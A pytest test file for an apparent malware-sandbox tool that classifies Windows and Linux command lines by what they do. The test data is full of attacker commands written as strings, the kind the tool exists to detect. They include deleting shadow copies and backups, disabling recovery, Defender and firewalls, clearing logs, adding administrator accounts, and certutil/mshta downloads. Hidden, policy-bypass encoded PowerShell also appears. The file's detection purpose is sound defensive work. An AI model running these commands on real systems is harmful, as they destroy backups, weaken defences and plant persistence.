from __future__ import annotations

import base64

import pytest

from lazaretto.sandbox.account import powershell
from lazaretto.sandbox.account.standins import interpret
from lazaretto.sandbox.account.text import split_windows


@pytest.mark.parametrize(
    ("line", "action", "detail"),
    [
        ("vssadmin delete shadows /all /quiet", "delete-shadow-copies", "all"),
        ("vssadmin.exe Delete Shadows /For=C: /Oldest", "delete-shadow-copies", "C:"),
        ("vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB", "delete-shadow-copies", "resize to 401MB"),
        ("wmic shadowcopy delete /nointeractive", "delete-shadow-copies", "wmi"),
        ('wmic process call create "calc.exe"', "run-script", "calc.exe"),
        ("bcdedit /set {default} recoveryenabled No", "disable-recovery", "recoveryenabled"),
        ("bcdedit /set {default} bootstatuspolicy ignoreallfailures", "disable-recovery", "bootstatuspolicy"),
        ("wbadmin delete catalog -quiet", "delete-backup", "catalog -quiet"),
        ("wevtutil cl Security", "clear-log", "Security"),
        ("sc stop WinDefend", "stop-service", "WinDefend"),
        ("sc \\\\host create evil binPath= C:\\e.exe start= auto", "create-service", "evil"),
        ("net user eve P4ss /add", "add-user", "eve"),
        ("net1 localgroup Administrators eve /add", "add-group-member", "Administrators eve"),
        ("net stop VSS", "stop-service", "VSS"),
        ("netsh advfirewall set allprofiles state off", "disable-firewall", "advfirewall set allprofiles state off"),
        ("reg add HKCU\\X /v a /d b /f", "registry-add", "HKCU\\X a=b"),
        ("certutil -urlcache -split -f http://x/a.exe a.exe", "download", "http://x/a.exe"),
        ("cipher /w:C:", "wipe-free-space", "C:"),
        ("fsutil usn deletejournal /d c:", "clear-log", "usn-journal"),
        ("taskkill /f /im sqlserver.exe", "kill-process", "sqlserver.exe"),
        ("mshta http://x/a.hta", "download", "http://x/a.hta"),
        ("systemctl enable --now evil.service", "change-service", "evil.service"),
        ("systemctl enable evil.timer", "create-task", "evil.timer"),
        ("iptables -F", "disable-firewall", "-F"),
        ("iptables -nL", "enumerate", "firewall /nl"),
        ("netsh advfirewall show allprofiles", "enumerate", "advfirewall show allprofiles"),
        ("net use Z: /delete", "remove-share", "Z: /delete"),
        ("net use", "enumerate", "use"),
        ("systemctl poweroff", "shutdown", "poweroff"),
        ("telinit 6", "shutdown", "6"),
        ("ufw disable", "disable-firewall", "disable"),
        ("timeshift --delete-all", "delete-backup", "/-delete-all"),
        ("loginctl terminate-user eve", "end-session", "terminate-user eve"),
        ("loginctl list-users", "enumerate", "list-users"),
        ("tscon 2 /dest:console", "take-session", "2 /dest:console"),
        ("ntdsutil 'ac i ntds' ifm", "copy-database", "'ac i ntds' ifm"),
    ],
)
def test_what_commands_mean(line, action, detail):
    argv = split_windows(line)
    program = argv[0].removesuffix(".exe")
    (meaning,) = interpret(program, argv)
    assert (meaning.action, meaning.detail) == (action, detail)


def test_a_task_in_all_its_fields():
    argv = split_windows('schtasks /create /tn "My Task" /tr "C:\\e.exe -x" /sc onlogon /ru system')
    (meaning,) = interpret("schtasks", argv)
    assert meaning.task is not None
    assert (meaning.task.name, meaning.task.command, meaning.task.trigger) == ("My Task", "C:\\e.exe -x", "onlogon")


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize("switch", ["-EncodedCommand", "-enc", "-e", "/ec", "-eNcO", "–enc"])
def test_encoded_command(switch):
    argv = ["-NoP", "-w", "hidden", "-ep", "bypass", switch, encoded("IEX (New-Object Net.WebClient)")]
    asked = powershell.read(argv)
    assert asked == powershell.Asked(script="IEX (New-Object Net.WebClient)", hidden=True, policy="bypass")


@pytest.mark.parametrize(
    ("argv", "script", "file"),
    [
        (["-c", "Get-Date", ";", "exit"], "Get-Date ; exit", ""),
        (["-Command", "Get-Date"], "Get-Date", ""),
        (["Get-Date"], "Get-Date", ""),
        (["-NonI", "-File", "C:\\x.ps1", "a"], "", "C:\\x.ps1 a"),
        (["-enc", "!!!"], "", ""),
        ([], "", ""),
    ],
)
def test_other_switches(argv, script, file):
    asked = powershell.read(argv)
    assert (asked.script, asked.file) == (script, file)


def test_what_is_encoded_inside_is_shown_too():
    inner = encoded("Remove-Item C:\\x")
    asked = powershell.read(["-c", f"powershell -enc {inner}"])
    assert asked.script.endswith("\nRemove-Item C:\\x")


def test_split_as_windows_does():
    assert split_windows('a "b c" d\\"e "f\\\\" g\\\\h') == ["a", "b c", 'd"e', "f\\", "g\\\\h"]


def test_a_stand_in_is_an_event_of_its_own(windows):
    windows.windows_sample()
    windows.create_process(200, "C:\\windows\\system32\\vssadmin.exe", "vssadmin delete shadows /all", 0x120)
    start, standin = windows.events("process.start", "standin")[1:]
    assert (standin.program, standin.action, standin.because) == ("vssadmin", "delete-shadow-copies", (start.id,))
    assert standin.process == start.process


def test_a_program_that_only_has_the_name_is_none(windows):
    windows.windows_sample()
    windows.create_process(200, "C:\\users\\anna\\vssadmin.exe", "vssadmin delete shadows /all", 0x120)
    assert windows.events("standin") == []


def test_powershells_script_is_kept_with_the_start(windows):
    windows.windows_sample()
    line = f"powershell -enc {encoded('Set-MpPreference -DisableRealtimeMonitoring 1')}"
    windows.create_process(200, "C:\\windows\\system32\\powershell.exe", line, 0x120)
    _, start, script, defender = windows.events("process.start", "standin")
    assert start.script.startswith("Set-MpPreference")
    assert (script.action, defender.action) == ("run-script", "disable-defender")


def test_a_task_is_an_autostart_and_names_its_causes(windows):
    windows.windows_sample()
    windows.create_process(
        200, "C:\\windows\\system32\\schtasks.exe", "schtasks /create /tn T /tr C:\\e.exe /sc daily", 0x120
    )
    standin, task, autostart = windows.events("standin", "task", "autostart")
    assert (task.action, task.name, task.because) == ("create", "T", (standin.id,))
    assert (autostart.mechanism, autostart.command, autostart.because) == ("task", "C:\\e.exe", (task.id,))


def test_crontab_of_the_machine(linux):
    linux.sample()
    linux.record(1, 101, 11)
    linux.exec("/usr/bin/crontab", "crontab", "/tmp/c", pid=101)
    linux.write("/var/spool/cron/crontabs/anna", b"* * * * * /tmp/x\n", pid=101)
    asked, autostart, written = linux.events("task", "autostart")
    assert (asked.name, asked.command) == ("crontab", "/tmp/c")
    assert autostart.mechanism == "cron"
    assert written.command == "* * * * * /tmp/x\n"
